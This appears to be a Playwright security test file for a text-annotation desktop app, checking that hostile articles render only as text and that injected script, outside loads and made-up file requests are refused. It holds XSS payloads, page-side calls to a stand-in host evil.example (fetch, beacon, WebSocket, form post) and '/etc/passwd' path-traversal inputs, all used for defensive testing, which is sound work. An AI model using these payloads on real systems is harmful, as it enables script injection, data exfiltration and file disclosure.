import type { Page } from '@playwright/test';
import type { Desk } from '../core/desk';
import { articleOf, dragOver, expect, rowsOf, saved, test } from './app';

const hostile = [
  '<script>window.pwned = "script"</script>',
  '<img src=x onerror="window.pwned = \'onerror\'">',
  '<img src="https://evil.example/pixel.png">',
  '<a href="javascript:window.pwned=1">a link</a> [another](javascript:window.pwned=1)',
  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus="window.pwned=1">send</button></form>',
  '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1} &lt;script&gt;',
];

test('a hostile article is text, and nothing but text', async ({ desk }) => {
  const path = desk.article('<img src=x onerror=alert(1)>.txt', `${hostile.join('\n\n')}\n`);
  const app = await desk.start(path);
  const { page } = app;
  const address = page.url();
  for (const line of hostile) await expect(articleOf(page).getByText(line, { exact: true })).toBeVisible();
  const made =
    'script, img, a, svg, iframe, meta, form, style, object, embed, link, base, [onerror], [onload], [href], [src]';
  await expect(articleOf(page).locator(made)).toHaveCount(0);
  await expect(page.locator('img, iframe, form, object, embed')).toHaveCount(0);

  await dragOver(page, '<script>window.pwned = "script"</script>');
  await page.keyboard.press('c');
  await expect(rowsOf(page)).toContainText(['<script>window.pwned = "script"</script>']);
  await page.keyboard.press('n');
  await page.getByLabel(/^Note/).fill('<img src=x onerror="window.pwned=1">');
  await expect(rowsOf(page)).toContainText(['<img src=x onerror="window.pwned=1">']);
  await expect(saved(page)).toHaveText('Saved');
  expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
  expect(page.url()).toBe(address);
});

test('script that got into the page could not run, load or send anything', async ({ desk }) => {
  desk.expectComplaints(/Content Security Policy|TrustedHTML|TrustedScript|^Refused to/);
  const { page } = await desk.start(desk.article('story.txt', 'A story.\n'));
  const address = page.url();
  await page.evaluate(async () => {
    const evil = 'https://evil.example';
    const refused = new Set<string>();
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
    const add = (name: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(name), properties));
    const attempts: Record<string, () => unknown> = {
      'inline script': () => {
        const script = document.createElement('script');
        script.append(new Text('window.pwned = 1'));
        document.body.append(script);
      },
      'script file': () => add('script', { src: `${evil}/x.js` }),
      markup: () => (document.body.innerHTML = '<img src=x onerror="window.pwned=1">'),
      handler: () => document.body.setAttribute('onclick', 'window.pwned = 1'),
      eval: () => (0, eval)('window.pwned = 1'),
      function: () => new Function('window.pwned = 1')(),
      timer: () => setTimeout('window.pwned = 1' as never),
      worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
      image: () => add('img', { src: `${evil}/x.png` }),
      background: () => (document.body.style.background = `url(${evil}/y.png)`),
      stylesheet: () => add('link', { rel: 'stylesheet', href: `${evil}/x.css` }),
      prefetch: () => add('link', { rel: 'prefetch', href: `${evil}/x` }),
      frame: () => add('iframe', { src: `${evil}/` }),
      object: () => add('object', { data: `${evil}/x` }),
      font: () => new FontFace('x', `url(${evil}/x.woff2)`).load(),
      media: () => add('video', { src: `${evil}/x.mp4` }),
      base: () => document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` })),
      form: () => {
        add('form', { action: `${evil}/`, method: 'post', id: 'attack' });
        (document.getElementById('attack') as HTMLFormElement).submit();
      },
      fetch: () => fetch(`${evil}/x`),
      beacon: () => navigator.sendBeacon(`${evil}/x`, 'x'),
      socket: () => new WebSocket('wss://evil.example/'),
      events: () => new EventSource(`${evil}/x`),
    };
    // In tasks of their own: what a test evaluates directly may do what the page may not. A refusal may come as an
    // exception or as an event.
    for (const attempt of Object.values(attempts))
      await new Promise<void>((resolve) =>
        setTimeout(
          () =>
            void (async () => attempt())().then(
              () => resolve(),
              () => resolve(),
            ),
        ),
      );
    document.body.click();
  });
  const refused = () => page.evaluate(() => [...(Reflect.get(window, 'refused') as Set<string>)].sort());
  await expect
    .poll(refused)
    .toEqual([
      ...['base-uri', 'connect-src', 'default-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'media-src'],
      ...['require-trusted-types-for', 'style-src-elem'],
    ]);
  expect(await page.evaluate(() => Reflect.get(window, 'pwned') as unknown)).toBeUndefined();
  expect(page.url()).toBe(address);
});

/** What the host says to a request that the app itself would never make. */
function request(page: Page, name: string, payload: object): Promise<unknown> {
  return page.evaluate(
    ([name, payload]) => {
      const { desk } = window as { desk?: Desk };
      if (desk) return desk.request(name as never, payload as never);
      return new Promise((resolve) => {
        const socket = new WebSocket(`ws://${location.host}/desk`);
        socket.onopen = () => socket.send(JSON.stringify({ id: 1, name, payload }));
        socket.onmessage = ({ data }) => {
          resolve((JSON.parse(String(data)) as { result: unknown }).result);
          socket.close();
        };
      });
    },
    [name, payload] as const,
  );
}

test('references and paths that a page makes up open, list and write nothing', async ({ desk }) => {
  const path = desk.article('story.txt', 'A story.\n');
  const { page } = await desk.start(path);
  const unknown = { ok: false, error: { code: 'unknown-reference' } };
  const madeUp = [path, '/etc/passwd', 'file:///etc/passwd', '../story.txt', '0', crypto.randomUUID()];
  for (const ref of madeUp) {
    const place = { article: ref, place: ref, overwrite: true };
    expect(await request(page, 'article/open', { ref })).toEqual(unknown);
    expect(await request(page, 'article/preview', { article: ref, encoding: 'utf-8' })).toEqual(unknown);
    expect(await request(page, 'folder/list', { folder: ref })).toEqual(unknown);
    expect(await request(page, 'place/name', { folder: ref, file: 'x.json' })).toEqual(unknown);
    expect(await request(page, 'set/save-as', place)).toEqual(unknown);
    expect(await request(page, 'set/export', { ...place, format: 'caveat', withText: true })).toEqual(unknown);
  }
});

test('what is not in the contract is refused', async ({ desk }) => {
  const { page } = await desk.start();
  for (const [name, payload] of [
    ['no/such', {}],
    ['__proto__', {}],
    ['constructor', {}],
    ['desk:dropped', { path: '/etc/passwd' }],
    ['article/open', {}],
    ['article/open', { ref: ['/etc/passwd'] }],
    ['article/open', { ref: 'x'.repeat(10_000) }],
    ['settings/change', { settings: { theme: 'pink' } }],
    ['window/show', { title: 'x', enabled: ['no.such'] }],
  ] as const)
    expect(await request(page, name, payload), name).toMatchObject({ ok: false, error: { code: 'bad-request' } });
});
